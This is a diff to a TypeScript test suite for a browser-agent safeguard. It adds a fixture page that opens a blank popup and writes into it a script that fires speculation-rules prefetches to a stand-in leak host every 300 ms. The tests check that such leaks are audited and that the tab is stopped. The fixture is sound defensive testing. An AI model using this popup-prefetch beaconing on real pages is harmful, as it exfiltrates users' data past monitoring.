@@ -86,6 +86,14 @@ describe("the user's Chrome: an agent frame's requests are judged after its sess
             `<title>Watch away</title><p>watching</p><script>let n = 0; setInterval(() => { if (document.visibilityState !== 'visible') return; n++;
             const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [${JSON.stringify(url('leak.example', '/spec-away?d='))} + n] }] }); document.head.append(s) }, 300)</script>`,
           ),
+        // A blank popup the page writes rules into: Chrome reports no attempt status for its document (measured),
+        // only the attempts its rules ask for.
+        '/watch-popup': (_req, _body, res) =>
+          html(
+            res,
+            `<title>Watch popup</title><button id="go">Open</button><script>go.onclick = () => { const w = window.open('');
+            w.document.write('<title>loop</title><script>let n = 0; setInterval(() => { n++; const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [' + ${JSON.stringify(JSON.stringify(url('leak.example', '/spec-popup?d=')))} + ' + n] }] }); document.head.append(s) }, 300)<' + '/script>'); w.document.close(); }</script>`,
+          ),
         '/talking': (_req, _body, res) =>
           html(
             res,
@@ -214,9 +222,10 @@ describe("the user's Chrome: an agent frame's requests are judged after its sess
   // (browser/speculativeLoads.ts). One that went after the read is in the audit as sent although refused, and it
   // stops the tab: what left before that is the residual, nothing leaves after it. Failed before: nothing was told
   // and the page went on (a cross-site prefetch carried what it liked to leak.example every 300 ms).
-  for (const [path, where, leaks] of [
-    ['/watch', 'of its own site', ['/pre', '/pref']],
-    ['/watch-away', 'to another site', ['/spec-away']],
+  for (const [path, where, leaks, click] of [
+    ['/watch', 'of its own site', ['/pre', '/pref'], undefined],
+    ['/watch-away', 'to another site', ['/spec-away'], undefined],
+    ['/watch-popup', 'in a blank popup it writes them into', ['/spec-popup'], 'Open'],
   ] as const)
     test(`after a sensitive read, a page's speculative loads ${where} are told as sent although refused, and its tab is stopped`, async () => {
       const agentMcp = await agent();
@@ -227,6 +236,8 @@ describe("the user's Chrome: an agent frame's requests are judged after its sess
       const left = () => leaks.flatMap((leak) => arrived(`${leak}?d=`)).map((request) => request.path);
       const before = left().length;
       await agentMcp.call('select_page', { pageId: tab });
+      if (click)
+        await agentMcp.call('click', { ref: refOf((await agentMcp.call('take_snapshot')).text, click) });
       const told = () => sentAlthoughRefused(agentMcp.audit());
       await waitFor(
         'the speculative load is told',
@@ -248,7 +259,9 @@ describe("the user's Chrome: an agent frame's requests are judged after its sess
           told().some((told) => told.endsWith(arrival)),
           `${arrival} left, and the audit does not say so: ${told().join(' | ')}`,
         );
-      assert.match((await agentMcp.call('take_snapshot', { pageId: tab })).text, /crashed|stopped|closed/i);
+      // The tab that made them is stopped (the popup, where the page wrote them).
+      if (!click)
+        assert.match((await agentMcp.call('take_snapshot', { pageId: tab })).text, /crashed|stopped|closed/i);
     });
 
   /** An agent tab of another site beaconing home every 100 ms, and then a sensitive read: from then on it may not. */
